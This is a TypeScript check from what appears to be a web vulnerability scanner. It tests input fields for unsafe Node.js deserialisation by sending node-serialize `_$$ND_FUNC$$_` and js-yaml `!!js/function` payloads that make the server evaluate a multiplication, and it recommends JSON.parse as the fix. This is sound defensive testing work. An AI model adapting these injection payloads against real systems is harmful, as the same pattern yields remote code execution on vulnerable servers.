import { injectable } from '../../attacks/places.js';
import { type Attempts, firstProof, hasLanguage, isAtLeast } from '../../attacks/prove.js';
import type { ActiveCheck, Prober, Proof } from '../../check.js';
import type { InputPlace } from '../../exchange.js';

export const check: ActiveCheck = {
  id: 'deserialisation-node',
  mode: 'active',
  scope: 'place',
  places: injectable,
  writes: false,
  technologies: [],
  title: 'Functions in the input are run by a JavaScript deserialiser',
  severity: 'critical',
  aliases: ['CWE-502', 'WASC-20'],
  cwe: 502,
  fix: 'Exchange JSON and read it with JSON.parse.',
  references: [
    'https://www.cve.org/CVERecord?id=CVE-2017-5941',
    'https://github.com/nodeca/js-yaml/blob/3.14.1/README.md',
  ],
  cost: { low: 3, medium: 3, high: 3, insane: 3 },
  attack: async (target, prober) => (target.scope === 'place' ? prove(target.place, prober) : []),
};

async function prove(place: InputPlace, prober: Prober): Promise<readonly Proof[]> {
  const isNode = hasLanguage(prober, /node|express|npm|koa|fastify/) === true;
  return isNode || isAtLeast(prober, 'high') ? firstProof(prober, place, attempts) : [];
}

/** node-serialize marks functions by a prefix and js-yaml 3 by a tag; both call what is called in the text. */
const marked = (a: number, b: number) =>
  JSON.stringify({ name: `_$$ND_FUNC$$_function(){return ${a}*${b}}()` });

const attempts: readonly Attempts[] = [
  ({ a, b, product }) => ({ payload: marked(a, b), expected: product }),
  ({ a, b, product }) => ({ payload: Buffer.from(marked(a, b)).toString('base64'), expected: product }),
  ({ a, b, product }) => ({
    payload: `{ toString: !!js/function "function(){return '${product.length}'+${a}*${b}}" }`,
    expected: `${product.length}${product}`,
  }),
];
